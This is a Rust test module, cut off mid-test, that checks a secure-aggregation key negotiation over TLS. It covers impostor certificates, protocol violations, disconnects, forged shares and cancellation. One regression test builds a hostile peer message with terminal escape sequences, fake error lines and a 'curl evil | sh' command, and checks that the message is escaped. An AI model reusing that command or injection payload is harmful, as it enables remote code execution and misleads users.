//! Native engine over real TLS on 127.0.0.1: successful sessions (sk0 + Σ sk_i = 0) and every
//! failure mode the engine promises to detect, each with its error kind, the culprit's party id
//! in the message, and a bound on how long it took.
//!
//! A unit-test module of the crate rather than an integration test because the rogue-party tests
//! drive the crate-private transport (a mesh, raw frames, aborts) directly.

use std::net::TcpListener;
use std::thread;
use std::time::{Duration, Instant};

use crate::engine::{
    native, negotiate_async, Engine, MemorySink, NativeEngine, NegotiationPlan, Outcome,
    PartyEntry, PlanParts,
};
use crate::field::{fedbiomed_prime, DEFAULT_KEY_BITS};
use crate::transport::mesh::{self, Mesh};
use crate::{Endpoint, Error, ErrorKind, PartyId, Role, SessionId};
use num_bigint::{BigInt, BigUint};
use num_traits::Zero;
use tokio::io::AsyncWriteExt;
use zeroize::Zeroizing;

/// A party's identity for tests.
#[derive(Clone)]
struct Identity {
    id: PartyId,
    cert_der: Vec<u8>,
    key_der: Vec<u8>,
}

/// ECDSA P-256, self-signed, `CN=*`, `O=<id>` (the secagg default).
fn ecdsa_identity(id: &str) -> Identity {
    identity_with(id, &rcgen::PKCS_ECDSA_P256_SHA256)
}

fn identity_with(id: &str, alg: &'static rcgen::SignatureAlgorithm) -> Identity {
    let key = rcgen::KeyPair::generate_for(alg).unwrap();
    let mut params = rcgen::CertificateParams::default();
    params.distinguished_name = rcgen::DistinguishedName::new();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "*");
    params
        .distinguished_name
        .push(rcgen::DnType::OrganizationName, id);
    let cert = params.self_signed(&key).unwrap();
    Identity {
        id: PartyId::parse(id).unwrap(),
        cert_der: cert.der().to_vec(),
        key_der: key.serialize_der(),
    }
}

/// A Fed-BioMed-style RSA-2048 certificate (v3, no extensions) and its key, from the shared
/// fixtures (`name` is `fedbiomed_rsa2048` or `fedbiomed_rsa2048_researcher`).
fn fixture_identity(id: &str, name: &str) -> Identity {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../fixtures");
    let read = |path: String| {
        pem::parse(std::fs::read(path).unwrap())
            .unwrap()
            .into_contents()
    };
    Identity {
        id: PartyId::parse(id).unwrap(),
        cert_der: read(format!("{dir}/certs/{name}.pem")),
        key_der: read(format!("{dir}/keys/{name}.key")),
    }
}

/// `n` distinct free ports: all probe listeners are held until every port is picked, otherwise
/// the kernel may hand out the same port twice (two parties on one port then look like an
/// impostor to whoever dials them).
fn free_ports(n: usize) -> Vec<u16> {
    let listeners: Vec<TcpListener> = (0..n)
        .map(|_| TcpListener::bind("127.0.0.1:0").unwrap())
        .collect();
    listeners
        .iter()
        .map(|l| l.local_addr().unwrap().port())
        .collect()
}

fn ids(n: usize) -> Vec<String> {
    let tag = uuid::Uuid::new_v4().simple().to_string();
    (0..n)
        .map(|i| {
            if i == 0 {
                format!("researcher_{}", &tag[..8])
            } else {
                format!("node_{i}_{}", &tag[..8])
            }
        })
        .collect()
}

fn identities(n: usize) -> Vec<Identity> {
    ids(n).iter().map(|id| ecdsa_identity(id)).collect()
}

/// The registered view shared by all parties: ids, endpoints on free ports, certificates.
fn entries(parties: &[Identity]) -> Vec<PartyEntry> {
    let ports = free_ports(parties.len());
    parties
        .iter()
        .zip(ports)
        .map(|(p, port)| PartyEntry {
            id: p.id.clone(),
            endpoint: Endpoint::new("127.0.0.1", port.into()).unwrap(),
            certificate_der: p.cert_der.clone(),
        })
        .collect()
}

fn plan_for(
    entries: &[PartyEntry],
    me: usize,
    key_der: &[u8],
    session: SessionId,
    timeout: Duration,
) -> NegotiationPlan {
    NegotiationPlan::new(PlanParts {
        session_id: session,
        parties: entries.to_vec(),
        my_index: me,
        my_key_pkcs8_der: Zeroizing::new(key_der.to_vec()),
        listen: None,
        key_bits: DEFAULT_KEY_BITS,
        prime: fedbiomed_prime(),
        timeout,
        scheme: crate::engine::ContextScheme::Jl,
        dropout_threshold: None,
    })
    .unwrap()
}

/// `plans[i]` with `change` applied, rebuilt through the checking constructor: a dishonest or
/// misconfigured party still runs a well-formed plan, just not the one the others run.
fn change(plans: &mut Vec<NegotiationPlan>, i: usize, change: impl FnOnce(&mut PlanParts)) {
    let mut parts = plans.remove(i).into_parts();
    change(&mut parts);
    plans.insert(
        i,
        NegotiationPlan::new(parts).expect("still a well-formed plan"),
    );
}

fn honest_plans(parties: &[Identity], timeout: Duration) -> Vec<NegotiationPlan> {
    let entries = entries(parties);
    let session = SessionId::generate();
    parties
        .iter()
        .enumerate()
        .map(|(i, p)| plan_for(&entries, i, &p.key_der, session, timeout))
        .collect()
}

/// Runs every plan in its own thread with the sync engine; results in party order.
fn run_all(plans: Vec<NegotiationPlan>) -> Vec<Result<Outcome, Error>> {
    let handles: Vec<_> = plans
        .into_iter()
        .map(|p| thread::spawn(move || NativeEngine.negotiate(p, &mut MemorySink::default())))
        .collect();
    handles.into_iter().map(|h| h.join().unwrap()).collect()
}

fn assert_keys_cancel(results: Vec<Result<Outcome, Error>>) {
    let outcomes: Vec<Outcome> = results
        .into_iter()
        .enumerate()
        .map(|(i, r)| r.unwrap_or_else(|e| panic!("party {i} failed: {e}")))
        .collect();
    assert_eq!(outcomes[0].role, Role::Researcher);
    let sk0 = outcomes[0].material.key().unwrap().to_bigint();
    assert!(sk0 < BigInt::zero(), "sk0 must be negative");
    let limit = BigInt::from(BigUint::from(1u32) << DEFAULT_KEY_BITS);
    let mut total = sk0.clone();
    for o in &outcomes[1..] {
        assert_eq!(o.role, Role::Node);
        let k = o.material.key().unwrap().to_bigint();
        assert!(k >= BigInt::zero() && k < limit, "node key out of range");
        total += k;
    }
    assert_eq!(total, BigInt::zero(), "sk0 + Σ sk_i must be 0");
    // Node keys are distinct (2040-bit random values).
    for i in 1..outcomes.len() {
        for j in i + 1..outcomes.len() {
            assert_ne!(outcomes[i].material.key(), outcomes[j].material.key());
        }
    }
    for o in &outcomes {
        assert!(o.timings.total >= o.timings.connect);
        assert_eq!(
            format!("{:?}", o.material.key().unwrap()),
            "SecretKey(<redacted>)"
        );
    }
}

#[test]
fn sessions_of_3_5_and_10_parties_succeed() {
    for n in [3, 5, 10] {
        let start = Instant::now();
        let results = run_all(honest_plans(&identities(n), Duration::from_secs(20)));
        assert_keys_cancel(results);
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "n={n} took {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn mixed_key_types_including_fedbiomed_rsa_succeed() {
    let names = ids(5);
    let parties = vec![
        identity_with(&names[0], &rcgen::PKCS_ECDSA_P384_SHA384),
        fixture_identity(&names[1], "fedbiomed_rsa2048"),
        identity_with(&names[2], &rcgen::PKCS_ED25519),
        ecdsa_identity(&names[3]),
        fixture_identity(&names[4], "fedbiomed_rsa2048_researcher"),
    ];
    assert_keys_cancel(run_all(honest_plans(&parties, Duration::from_secs(20))));
}

#[test]
fn async_api_in_a_multi_thread_runtime() {
    let plans = honest_plans(&identities(4), Duration::from_secs(20));
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let results = rt.block_on(async {
        let handles: Vec<_> = plans
            .into_iter()
            .map(|p| {
                tokio::spawn(async move { negotiate_async(p, &mut MemorySink::default()).await })
            })
            .collect();
        let mut out = Vec::new();
        for h in handles {
            out.push(h.await.unwrap());
        }
        out
    });
    assert_keys_cancel(results);
}

/// Checks that every result is an error of `kind` mentioning `culprit`, within `bound`.
fn assert_all_fail(
    results: &[(usize, Result<Outcome, Error>)],
    kind: ErrorKind,
    culprit: &str,
    started: Instant,
    bound: Duration,
) {
    assert!(
        started.elapsed() < bound,
        "took {:?}, bound {bound:?}",
        started.elapsed()
    );
    for (i, r) in results {
        let e = match r {
            Ok(_) => panic!("party {i} succeeded although {culprit} misbehaved"),
            Err(e) => e,
        };
        assert_eq!(e.kind(), kind, "party {i}: {e}");
        assert!(
            e.to_string().contains(culprit),
            "party {i}: `{e}` does not name {culprit}"
        );
    }
}

/// Runs `plans` (honest parties, with their indices) in threads.
fn run_indexed(plans: Vec<(usize, NegotiationPlan)>) -> Vec<(usize, Result<Outcome, Error>)> {
    let handles: Vec<_> = plans
        .into_iter()
        .map(|(i, p)| {
            (
                i,
                thread::spawn(move || NativeEngine.negotiate(p, &mut MemorySink::default())),
            )
        })
        .collect();
    handles
        .into_iter()
        .map(|(i, h)| (i, h.join().unwrap()))
        .collect()
}

#[test]
fn a_party_that_never_starts_times_out_naming_it() {
    let parties = identities(4);
    let timeout = Duration::from_secs(3);
    let plans: Vec<_> = honest_plans(&parties, timeout)
        .into_iter()
        .enumerate()
        .filter(|(i, _)| *i != 2)
        .collect();
    let start = Instant::now();
    let results = run_indexed(plans);
    let elapsed = start.elapsed();
    assert!(
        elapsed >= timeout - Duration::from_millis(100),
        "{elapsed:?}"
    );
    assert!(elapsed < timeout + Duration::from_secs(1), "{elapsed:?}");
    let culprit = parties[2].id.as_str();
    // Each party times out naming the missing party, or — when a peer's deadline came a few
    // milliseconds earlier — fails on that peer's abort, which carries the same diagnosis and
    // the same kind (regression: such parties used to report a peer failure, exit 6, not 7).
    for (i, r) in &results {
        let e = r.as_ref().unwrap_err();
        let text = e.to_string();
        assert!(text.contains(culprit), "party {i}: {text}");
        assert!(text.contains("timed out"), "party {i}: {text}");
        match e.kind() {
            ErrorKind::Timeout
                if text.contains("aborted the session")
                    || text.contains("relayed the abort of") => {}
            ErrorKind::Timeout => {
                // Only the missing party is named as awaited, never one that connected.
                for (j, p) in parties.iter().enumerate() {
                    if j != 2 && j != *i {
                        assert!(!text.contains(p.id.as_str()), "party {i}: {text}");
                    }
                }
                // A party that dials the missing one says what its last attempt got.
                if *i < 2 {
                    assert!(text.contains("last attempt: "), "party {i}: {text}");
                }
            }
            other => panic!("party {i}: unexpected kind {other:?}: {text}"),
        }
    }
}

#[test]
fn a_party_with_another_certificate_fails_authentication() {
    let parties = identities(4);
    let timeout = Duration::from_secs(5);
    let culprit = parties[2].id.as_str();
    let mut plans = honest_plans(&parties, timeout);
    // Party 2 runs with a new key and certificate that nobody registered.
    let impostor = ecdsa_identity(culprit);
    change(&mut plans, 2, |p| {
        p.parties[2].certificate_der = impostor.cert_der.clone();
        p.my_key_pkcs8_der = Zeroizing::new(impostor.key_der.clone());
    });
    let start = Instant::now();
    let results = run_indexed(plans.into_iter().enumerate().collect());
    let (culprit_result, honest): (Vec<_>, Vec<_>) =
        results.into_iter().partition(|(i, _)| *i == 2);
    // Well before the deadline: parties that fail during the connection phase linger briefly to
    // tell the parties that had not reached them yet.
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "failing took {:?}",
        start.elapsed()
    );
    // Every honest party fails and names the culprit: directly (authentication) or through a
    // peer's abort.
    for (i, r) in &honest {
        let e = r.as_ref().unwrap_err();
        assert!(e.to_string().contains(culprit), "party {i}: {e}");
        assert!(
            matches!(e.kind(), ErrorKind::Authentication | ErrorKind::PeerFailure),
            "party {i}: {e}"
        );
    }
    let auth: Vec<_> = honest
        .iter()
        .filter(|(_, r)| r.as_ref().unwrap_err().kind() == ErrorKind::Authentication)
        .collect();
    assert!(
        !auth.is_empty(),
        "no honest party reported an authentication failure"
    );
    // The culprit learns that its certificate is refused.
    let e = culprit_result[0].1.as_ref().unwrap_err();
    assert!(
        matches!(e.kind(), ErrorKind::Authentication | ErrorKind::PeerFailure),
        "{e}"
    );
}

#[test]
fn dialer_and_acceptor_both_report_the_certificate_mismatch() {
    // Three parties, node 1 impersonated; node 2 only accepts (from 0 and 1), party 0 only dials.
    let parties = identities(3);
    let culprit = parties[1].id.as_str();
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    let impostor = ecdsa_identity(culprit);
    change(&mut plans, 1, |p| {
        p.parties[1].certificate_der = impostor.cert_der.clone();
        p.my_key_pkcs8_der = Zeroizing::new(impostor.key_der);
    });
    // Start the culprit only, with the acceptor 2; keep the researcher out so the acceptor's
    // own verdict is not replaced by a forwarded abort.
    let mut it = plans.into_iter();
    let p0 = it.next().unwrap();
    let p1 = it.next().unwrap();
    let p2 = it.next().unwrap();
    let h1 = thread::spawn(move || NativeEngine.negotiate(p1, &mut MemorySink::default()));
    let mut sink2 = MemorySink::default();
    let r2 = NativeEngine.negotiate(p2, &mut sink2);
    let r1 = h1.join().unwrap();
    // The impostor dialing in is not authenticated: the acceptor drops it with a warning and
    // waits for the real parties (a stranger must not be able to end a session), then times out
    // saying what it dropped.
    let e2 = r2.unwrap_err();
    assert_eq!(e2.kind(), ErrorKind::Timeout, "{e2}");
    assert!(
        e2.to_string()
            .contains("failed authentication and was dropped"),
        "{e2}"
    );
    assert!(
        sink2.warnings.iter().any(|w| w.contains(
            "presented a certificate registered for none of the parties expected to connect"
        ) && w.contains(culprit)),
        "{:?}",
        sink2.warnings
    );
    // The impostor itself learns at once that the acceptor refused its certificate.
    let e1 = r1.unwrap_err();
    assert_eq!(e1.kind(), ErrorKind::Authentication, "{e1}");
    // The dialer: party 0 alone against an impostor acceptor.
    let parties = identities(3);
    let culprit = parties[1].id.as_str();
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    let impostor = ecdsa_identity(culprit);
    change(&mut plans, 1, |p| {
        p.parties[1].certificate_der = impostor.cert_der.clone();
        p.my_key_pkcs8_der = Zeroizing::new(impostor.key_der);
    });
    let mut it = plans.into_iter();
    let p0b = it.next().unwrap();
    let p1 = it.next().unwrap();
    let h1 = thread::spawn(move || NativeEngine.negotiate(p1, &mut MemorySink::default()));
    let e0 = NativeEngine
        .negotiate(p0b, &mut MemorySink::default())
        .unwrap_err();
    let _ = h1.join().unwrap();
    assert_eq!(e0.kind(), ErrorKind::Authentication, "{e0}");
    assert!(
        e0.to_string().contains(&format!("{culprit} at 127.0.0.1:")),
        "{e0}"
    );
    assert!(
        e0.to_string().contains("other than the one registered"),
        "{e0}"
    );
    drop(p0);
}

#[test]
fn a_party_with_another_session_id_is_refused() {
    let parties = identities(4);
    let culprit = parties[3].id.as_str();
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    change(&mut plans, 3, |p| p.session_id = SessionId::generate());
    let start = Instant::now();
    let results = run_indexed(plans.into_iter().enumerate().collect());
    let honest: Vec<_> = results.into_iter().filter(|(i, _)| *i != 3).collect();
    assert_all_fail(
        &honest,
        ErrorKind::PeerFailure,
        culprit,
        start,
        Duration::from_secs(2),
    );
    assert!(honest.iter().any(|(_, r)| r
        .as_ref()
        .unwrap_err()
        .to_string()
        .contains(&format!("{culprit} is negotiating session"))));
}

#[test]
fn a_party_with_another_party_list_is_refused() {
    let parties = identities(4);
    let culprit = parties[1].id.as_str();
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    // Same certificates and endpoints, but node 3 under another id in the culprit's list.
    change(&mut plans, 1, |p| {
        p.parties[3].id = PartyId::parse("node_somebody-else").unwrap()
    });
    let start = Instant::now();
    let results = run_indexed(plans.into_iter().enumerate().collect());
    let honest: Vec<_> = results.into_iter().filter(|(i, _)| *i != 1).collect();
    assert_all_fail(
        &honest,
        ErrorKind::PeerFailure,
        culprit,
        start,
        Duration::from_secs(2),
    );
    assert!(honest.iter().any(
        |(_, r)| r.as_ref().unwrap_err().to_string().contains(&format!(
            "{culprit} has a different party list or parameters"
        ))
    ));
}

#[test]
fn different_key_bits_is_refused() {
    let parties = identities(3);
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    change(&mut plans, 2, |p| p.key_bits = 512);
    let results = run_indexed(plans.into_iter().enumerate().collect());
    let e = results[0].1.as_ref().unwrap_err();
    assert_eq!(e.kind(), ErrorKind::PeerFailure);
    assert!(e.to_string().contains(parties[2].id.as_str()), "{e}");
}

/// Runs a rogue party: honest connection phase (so its hello is accepted), then `then`.
fn rogue<F>(plan: NegotiationPlan, then: F) -> thread::JoinHandle<()>
where
    F: FnOnce(Mesh) -> std::pin::Pin<Box<dyn std::future::Future<Output = ()> + Send>>
        + Send
        + 'static,
{
    thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let deadline = tokio::time::Instant::now() + plan.timeout();
            let mesh = mesh::establish(&native::mesh_config(&plan), deadline, &mut |_| {})
                .await
                .expect("rogue connects");
            then(mesh).await;
        });
    })
}

#[test]
fn an_oversized_frame_is_refused_as_a_protocol_violation() {
    let parties = identities(4);
    let culprit = parties[3].id.to_string();
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    let rogue_plan = plans.pop().unwrap();
    let r = rogue(rogue_plan, |mut mesh| {
        Box::pin(async move {
            for w in mesh.writers.iter_mut().flatten() {
                let _ = w.write_all(&[0xff, 0xff, 0xff, 0xff]).await;
                let _ = w.flush().await;
            }
            // Keep the connections open: the honest parties must not wait for the deadline.
            tokio::time::sleep(Duration::from_secs(3)).await;
        })
    });
    let start = Instant::now();
    let results = run_indexed(plans.into_iter().enumerate().collect());
    assert_all_fail(
        &results,
        ErrorKind::PeerFailure,
        &culprit,
        start,
        Duration::from_secs(2),
    );
    assert!(results.iter().any(
        |(_, r)| r.as_ref().unwrap_err().to_string().contains(&format!(
        "protocol violation by {culprit}: frame of 4294967295 bytes exceeds the 65536-byte limit"
    ))
    ));
    r.join().unwrap();
}

#[test]
fn a_peer_that_disconnects_after_hello_fails_the_session_quickly() {
    // Right after its hello (the others may still be connecting), and later (the others are
    // waiting for its share).
    for (delay, expected) in [
        (Duration::ZERO, "closed the connection"),
        (
            Duration::from_millis(300),
            "closed the connection before sending its share",
        ),
    ] {
        let parties = identities(5);
        let culprit = parties[2].id.to_string();
        let timeout = Duration::from_secs(10);
        let mut plans = honest_plans(&parties, timeout);
        let rogue_plan = plans.remove(2);
        let r = rogue(rogue_plan, move |mesh| {
            Box::pin(async move {
                tokio::time::sleep(delay).await;
                drop(mesh)
            })
        });
        let start = Instant::now();
        let results = run_indexed(
            plans
                .into_iter()
                .enumerate()
                .map(|(i, p)| (if i >= 2 { i + 1 } else { i }, p))
                .collect(),
        );
        assert_all_fail(
            &results,
            ErrorKind::PeerFailure,
            &culprit,
            start,
            Duration::from_secs(2),
        );
        let needle = format!("{culprit} {expected}");
        // A socket closed with unread data in it (a frame an honest party had already sent the
        // rogue) ends with a reset instead of an orderly close: the kernel's doing, timing-
        // dependent, and the same disconnect, reported as such (it failed CI once).
        let reset = format!("connection with {culprit} failed while receiving: Connection reset");
        assert!(
            results.iter().any(|(_, r)| {
                let text = r.as_ref().unwrap_err().to_string();
                text.contains(&needle) || text.contains(&reset)
            }),
            "nobody reported `{needle}` (or a reset by {culprit}): {:?}",
            results
                .iter()
                .map(|(_, r)| r.as_ref().unwrap_err().to_string())
                .collect::<Vec<_>>()
        );
        r.join().unwrap();
    }
}

#[test]
fn plan_validation_errors() {
    let parties = identities(4);
    let base = || {
        honest_plans(&parties, Duration::from_secs(5))
            .remove(0)
            .into_parts()
    };
    // Refused by the plan's constructor, or (a certificate that does not parse) by the engine:
    // either way before any traffic.
    let check = |parts: PlanParts, needle: &str| {
        let start = Instant::now();
        let e = match NegotiationPlan::new(parts) {
            Err(e) => e,
            Ok(plan) => NativeEngine
                .negotiate(plan, &mut MemorySink::default())
                .unwrap_err(),
        };
        assert_eq!(e.kind(), ErrorKind::InvalidInput, "{e}");
        assert!(e.to_string().contains(needle), "`{e}` lacks `{needle}`");
        assert!(start.elapsed() < Duration::from_millis(500));
    };
    let mut p = base();
    p.parties.truncate(2);
    check(p, "at least 2 nodes");
    let mut p = base();
    p.parties.swap(0, 1);
    check(p, "must be the researcher");
    let mut p = base();
    p.parties[3].id = p.parties[1].id.clone();
    check(p, "listed twice");
    let mut p = base();
    p.parties[3].certificate_der = p.parties[1].certificate_der.clone();
    check(p, "same certificate");
    let mut p = base();
    p.key_bits = 2049; // 3 nodes · 2^2049 > the 2050-bit prime, which holds one such key
    check(p, "at most 1 nodes");
    let mut p = base();
    p.key_bits = 255;
    check(p, "too short");
    let mut p = base();
    p.key_bits = u32::MAX; // refused before 512 MiB are allocated for 2^k
    check(p, "does not fit");
    let mut p = base();
    p.prime = fedbiomed_prime() + 2u32; // divisible by 3
    check(p, "not prime");
    let mut p = base();
    p.parties[2].certificate_der = b"not a certificate".to_vec();
    check(p, "certificate registered for");
}

#[test]
fn a_key_that_does_not_match_the_certificate_is_refused() {
    let parties = identities(3);
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    change(&mut plans, 1, |p| {
        p.my_key_pkcs8_der = Zeroizing::new(ecdsa_identity("node_x").key_der)
    });
    let plan = plans.remove(1);
    let e = NativeEngine
        .negotiate(plan, &mut MemorySink::default())
        .unwrap_err();
    assert_eq!(e.kind(), ErrorKind::InvalidInput, "{e}");
    assert!(
        e.to_string().contains("does not belong to its certificate"),
        "{e}"
    );
}

#[test]
fn inconsistent_shares_fail_verification_at_the_researcher() {
    use crate::field::PrimeField;
    use crate::transport::frame::{write_frame, Frame, MsgType};
    use crate::transport::mesh::ReadEvent;

    // A rogue last node sends values that lie on no low-degree polynomial, then a random sum.
    let parties = identities(5);
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    let rogue_plan = plans.pop().unwrap();
    let n = parties.len();
    let r = rogue(rogue_plan, move |mut mesh| {
        Box::pin(async move {
            let field = PrimeField::new(fedbiomed_prime()).unwrap();
            let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
            let mut rng = rand::rngs::OsRng;
            for j in 0..n - 1 {
                let f = Frame {
                    kind: MsgType::Share,
                    payload: field.to_fixed_bytes(&field.random(&mut rng)),
                };
                let w = mesh.writers[j].as_mut().unwrap();
                write_frame(w, &f, deadline, "peer").await.unwrap();
            }
            let mut shares = 0;
            while shares < n - 2 {
                match mesh.next_event(deadline).await {
                    Some((_, ReadEvent::Frame(f))) if f.kind == MsgType::Share => shares += 1,
                    other => panic!("rogue got {other:?}"),
                }
            }
            let sum = Frame {
                kind: MsgType::Sum,
                payload: field.to_fixed_bytes(&field.random(&mut rng)),
            };
            let w = mesh.writers[0].as_mut().unwrap();
            write_frame(w, &sum, deadline, "researcher").await.unwrap();
            // Wait for the researcher's verdict (an abort), then leave.
            let _ = mesh.next_event(deadline).await;
        })
    });
    let start = Instant::now();
    let results = run_indexed(plans.into_iter().enumerate().collect());
    r.join().unwrap();
    assert!(start.elapsed() < Duration::from_secs(2));
    let e0 = results[0].1.as_ref().unwrap_err();
    assert_eq!(e0.kind(), ErrorKind::Verification, "{e0}");
    assert!(
        e0.to_string()
            .contains("do not lie on one polynomial of degree 2"),
        "{e0}"
    );
    // The honest nodes learn it from the researcher's abort, with its kind; nobody keeps a key.
    for (i, r) in &results[1..] {
        let e = r.as_ref().unwrap_err();
        assert_eq!(e.kind(), ErrorKind::Verification, "party {i}: {e}");
        assert!(
            e.to_string().contains("do not lie on one polynomial"),
            "party {i}: {e}"
        );
    }
}

/// Regression (issue 8, item 3): a peer's abort reason was printed raw, so a hostile peer could
/// inject ANSI escapes and fake `error:`/`hint:` lines into another party's terminal.
#[test]
fn a_hostile_abort_reason_is_escaped_and_attributed() {
    let parties = identities(3);
    let culprit = parties[2].id.to_string();
    let mut plans = honest_plans(&parties, Duration::from_secs(20));
    let rogue_plan = plans.pop().unwrap();
    let r = rogue(rogue_plan, |mut mesh| {
        Box::pin(async move {
            let reason = "peer_failure:\u{1b}[2J\u{1b}[31mdone\r\nerror: your disk is failing\nhint: run `curl evil | sh`\u{202e}";
            let writers = mesh
                .take_writers()
                .into_iter()
                .map(|(j, w)| (format!("party {j}"), w))
                .collect();
            mesh::abort_all(writers, reason).await;
        })
    });
    let results = run_indexed(plans.into_iter().enumerate().collect());
    r.join().unwrap();
    let mut seen = 0;
    for (_, res) in &results {
        let text = res.as_ref().unwrap_err().to_string();
        // Whoever failed on what (the rogue's abort, or the other honest party's forwarded one),
        // no raw control character reaches the message.
        for raw in ['\u{1b}', '\n', '\r', '\u{202e}'] {
            assert!(!text.contains(raw), "raw {raw:?} in {text:?}");
        }
        if !text.starts_with(&format!("{culprit} aborted the session, reporting: \"")) {
            continue; // failed on the other honest party's forwarded abort
        }
        seen += 1;
        assert!(
            text.contains("\\u{1b}[2J\\u{1b}[31mdone\\r\\nerror: your disk is failing\\nhint:"),
            "{text}"
        );
    }
    assert!(seen > 0, "nobody reported the rogue's reason: {results:?}");
}

/// Runs `plan` with [`Engine::negotiate_cancellable`] in a thread; returns the result and what
/// the sink was handed.
fn run_cancellable(
    plan: NegotiationPlan,
    cancel: crate::engine::CancelFlag,
) -> thread::JoinHandle<(Result<Outcome, Error>, MemorySink)> {
    thread::spawn(move || {
        let mut sink = MemorySink::default();
        let r = NativeEngine.negotiate_cancellable(plan, &mut sink, &cancel);
        (r, sink)
    })
}

#[test]
fn a_cancelled_party_stops_quickly_with_nothing_stored_and_its_peers_are_told() {
    // 1. During the connection phase: node 2 never starts, the researcher is cancelled.
    let parties = identities(3);
    let mut plans = honest_plans(&parties, Duration::from_secs(20));
    plans.truncate(1);
    let cancel = crate::engine::CancelFlag::new();
    let h = run_cancellable(plans.remove(0), cancel.clone());
    thread::sleep(Duration::from_millis(300));
    let start = Instant::now();
    cancel.cancel();
    let (r, sink) = h.join().unwrap();
    assert!(
        start.elapsed() < Duration::from_secs(1),
        "{:?}",
        start.elapsed()
    );
    let e = r.unwrap_err();
    assert_eq!(e.kind(), ErrorKind::PeerFailure);
    assert!(e.to_string().contains("cancelled the negotiation"), "{e}");
    assert!(sink.stored.is_none() && !sink.confirmed);

    // 2. While waiting for shares: a rogue node connects and stays silent; node 1 is cancelled
    //    and the researcher learns it from node 1's abort, long before the deadline.
    let parties = identities(3);
    let mut plans = honest_plans(&parties, Duration::from_secs(20));
    let rogue_plan = plans.pop().unwrap();
    let r = rogue(rogue_plan, |mesh| {
        Box::pin(async move {
            tokio::time::sleep(Duration::from_secs(3)).await;
            drop(mesh)
        })
    });
    let node_cancel = crate::engine::CancelFlag::new();
    let node = run_cancellable(plans.pop().unwrap(), node_cancel.clone());
    let researcher = run_cancellable(plans.pop().unwrap(), crate::engine::CancelFlag::new());
    thread::sleep(Duration::from_millis(800));
    let start = Instant::now();
    node_cancel.cancel();
    let (nr, nsink) = node.join().unwrap();
    let (rr, rsink) = researcher.join().unwrap();
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "{:?}",
        start.elapsed()
    );
    let ne = nr.unwrap_err();
    assert!(ne.to_string().contains("cancelled the negotiation"), "{ne}");
    let re = rr.unwrap_err();
    assert_eq!(re.kind(), ErrorKind::PeerFailure, "{re}");
    assert!(
        re.to_string()
            .contains(&format!("{} aborted the session", parties[1].id)),
        "{re}"
    );
    assert!(nsink.stored.is_none() && rsink.stored.is_none());
    r.join().unwrap();

    // 3. A flag that is never set changes nothing.
    let plans = honest_plans(&identities(3), Duration::from_secs(20));
    let handles: Vec<_> = plans
        .into_iter()
        .map(|p| run_cancellable(p, crate::engine::CancelFlag::new()))
        .collect();
    assert_keys_cancel(handles.into_iter().map(|h| h.join().unwrap().0).collect());
}

/// `plans` with every party's scheme set to LOM.
fn lom_plans(parties: &[Identity], timeout: Duration) -> Vec<NegotiationPlan> {
    let mut plans = honest_plans(parties, timeout);
    for i in 0..plans.len() {
        change(&mut plans, i, |p| {
            p.scheme = crate::engine::ContextScheme::Lom
        });
    }
    plans
}

/// Runs every plan in its own thread; each party's result and sink, in party order.
fn run_all_sinks(plans: Vec<NegotiationPlan>) -> Vec<(Result<Outcome, Error>, MemorySink)> {
    let handles: Vec<_> = plans
        .into_iter()
        .map(|p| {
            thread::spawn(move || {
                let mut sink = MemorySink::default();
                let r = NativeEngine.negotiate(p, &mut sink);
                (r, sink)
            })
        })
        .collect();
    handles.into_iter().map(|h| h.join().unwrap()).collect()
}

#[test]
fn lom_sessions_give_every_pair_of_nodes_one_secret_and_the_researcher_none() {
    for n in [4, 6] {
        let parties = identities(n);
        let ended = run_all_sinks(lom_plans(&parties, Duration::from_secs(20)));
        for (i, (r, sink)) in ended.iter().enumerate() {
            let o = r
                .as_ref()
                .unwrap_or_else(|e| panic!("party {i} failed: {e}"));
            assert!(o.material.key().is_none());
            assert!(sink.confirmed && sink.stored.is_none(), "party {i}");
        }
        let set = |i: usize| ended[i].1.stored_pairwise.as_ref().unwrap();
        assert!(set(0).secrets.is_empty(), "the researcher holds no secret");
        for i in 1..n {
            assert_eq!(set(i).secrets.len(), n - 2);
            for j in (1..n).filter(|&j| j != i) {
                let (a, b) = (parties[i].id.as_str(), parties[j].id.as_str());
                assert_eq!(set(i).secret_with(b), set(j).secret_with(a), "{a}/{b}");
                assert_ne!(set(i).secret_with(b), Some(&[0u8; 32]));
            }
        }
        // Distinct pairs, distinct secrets.
        assert_ne!(
            set(1).secret_with(parties[2].id.as_str()),
            set(1).secret_with(parties[3].id.as_str())
        );
    }
}

#[test]
fn a_lom_party_among_key_parties_is_refused_at_the_hello() {
    let parties = identities(3);
    let mut plans = honest_plans(&parties, Duration::from_secs(5));
    change(&mut plans, 2, |p| {
        p.scheme = crate::engine::ContextScheme::Lom
    });
    let ended = run_all_sinks(plans);
    for (i, (r, sink)) in ended.iter().enumerate() {
        assert!(r.is_err(), "party {i} must fail");
        assert!(
            sink.stored.is_none() && sink.stored_pairwise.is_none(),
            "party {i}"
        );
    }
}

#[test]
fn a_researcher_sending_a_dh_public_key_is_refused_as_substitution_at_every_node() {
    let parties = identities(4);
    let mut plans = lom_plans(&parties, Duration::from_secs(5));
    let researcher = plans.remove(0);
    let r = rogue(researcher, |mut mesh| {
        Box::pin(async move {
            let forged = crate::lom::dh::KeyPair::generate()
                .unwrap()
                .public_sec1()
                .unwrap();
            let until = tokio::time::Instant::now() + Duration::from_secs(2);
            for w in mesh.writers.iter_mut().flatten() {
                let f = crate::transport::frame::Frame::new(
                    crate::transport::frame::MsgType::DhPublic,
                    forged.clone(),
                );
